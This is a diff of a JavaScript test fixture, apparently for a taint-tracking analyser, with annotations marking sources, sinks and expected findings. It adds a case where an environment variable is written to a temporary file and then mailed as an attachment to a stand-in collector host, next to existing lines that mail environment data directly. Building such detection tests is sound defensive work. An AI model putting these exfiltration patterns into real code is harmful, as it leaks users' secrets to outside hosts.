@@ -8,6 +8,8 @@ function smtp() {
   const transport = nodemailer.createTransport({ host: "smtp.collector.example" }); //~ capability(MAIL), endpoint("smtp.collector.example")
   transport.sendMail({ to: "a@collector.example", text: process.env.T }); //~ source(ENVIRONMENT) f1, sink(egress.mail) f1, finding(traced) f1
   transport.sendMail({ to: "a@collector.example", text: "ping" }); //~ ok
+  require("fs").writeFileSync("/tmp/all.txt", process.env.T); //~ source(ENVIRONMENT) fattached
+  transport.sendMail({ attachments: [{ path: "/tmp/all.txt" }] }); //~ sink(egress.mail) fattached, finding(traced) fattached
   transport.sendMail({ attachments: [{ content: process.env.T }] }); //~ source(ENVIRONMENT) f2, sink(egress.mail) f2, finding(traced) f2
   nodemailer.createTransport({ host: "smtp.collector.example" }); //~ ok
 }
